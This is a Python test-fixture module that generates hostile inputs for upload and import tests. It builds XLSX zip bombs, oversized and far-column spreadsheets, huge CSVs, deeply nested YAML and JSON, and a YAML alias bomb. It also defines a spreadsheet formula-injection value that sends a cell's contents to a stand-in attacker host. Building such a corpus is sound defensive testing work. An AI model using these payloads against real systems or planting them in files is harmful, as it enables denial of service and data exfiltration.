"""The hostile-input corpus, generated here (never stored as big files): each builder returns bytes.

Used by the hostile-input suite of every upload and import path and by the figures in docs/security.md.
"""

from __future__ import annotations

import io
import zipfile
from xml.sax.saxutils import escape

FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Open")'
ORGANISATION_HEADER = ("name_en", "kind", "country", "description")

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)


def _column(index: int) -> str:
    letters = ""
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def _cell(reference: str, value: str) -> str:
    return f'<c r="{reference}" t="inlineStr"><is><t>{escape(value)}</t></is></c>'


def xlsx_raw(rows: list[list[str]], *, dimension: str | None = None, extra_rows: str = "") -> bytes:
    """A minimal workbook written by hand, so that a test can give it any dimension and any cells."""
    body = "".join(
        f'<row r="{number}">'
        + "".join(_cell(f"{_column(index)}{number}", value) for index, value in enumerate(row, start=1))
        + "</row>"
        for number, row in enumerate(rows, start=1)
    )
    dimension_xml = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dimension_xml}<sheetData>{body}{extra_rows}</sheetData></worksheet>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return buffer.getvalue()


def xlsx_far_column(rows: int = 8_000, *, declare: bool = True) -> bytes:
    """~150 kB: a few thousand ordinary rows and one cell in the sheet's last column (XFD)."""
    table = [list(ORGANISATION_HEADER)] + [[f"Org {n}", "company", "PK", ""] for n in range(rows)]
    far = f'<row r="{rows + 2}">{_cell(f"XFD{rows + 2}", "x")}</row>'
    return xlsx_raw(table, dimension=f"A1:XFD{rows + 2}" if declare else None, extra_rows=far)


def xlsx_many_rows(rows: int = 1_500_000, *, declare: bool = True) -> bytes:
    """A few MB of zip holding a million and a half one-cell rows (declared in the dimension or not)."""
    row_xml = "<row><c><v>1</v></c></row>" * rows
    header = [list(ORGANISATION_HEADER)]
    return xlsx_raw(header, dimension=f"A1:D{rows + 1}" if declare else None, extra_rows=row_xml)


def xlsx_zip_bomb(megabytes: int = 200) -> bytes:
    """A sheet that inflates to `megabytes` MB of blank space from a few hundred kB of zip."""
    padding = " " * (megabytes * 1024 * 1024)
    return xlsx_raw([list(ORGANISATION_HEADER)], extra_rows=padding)


def csv_many_rows(rows: int = 1_000_000) -> bytes:
    """A header and a million short rows: under the upload size limit, far over the row limit."""
    return ("name_en,kind,country\n" + "a,b,PK\n" * rows).encode()


def csv_bytes(rows: list[list[str]], *, encoding: str = "utf-8") -> bytes:
    lines = [",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding, errors="surrogatepass")


def organisations_csv(name: str = "Hostile Org", description: str = "") -> bytes:
    """A header and one organisation row whose name and description carry the given text."""
    return csv_bytes([list(ORGANISATION_HEADER), [name, "company", "PK", description]])


def deep_yaml(depth: int = 40_000) -> str:
    return "name: d\nx: " + "[" * depth + "]" * depth


def deep_json(depth: int = 40_000) -> str:
    return '{"name": "d", "x": ' + "[" * depth + "]" * depth + "}"


def alias_bomb() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 10) + "]" for n in range(1, 9)]
    return "name: bomb\n" + "\n".join(lines) + "\n"


def compact_block_yaml(depth: int = 40_000) -> str:
    return "name: d\nx:\n  " + "- " * depth + "x\n"
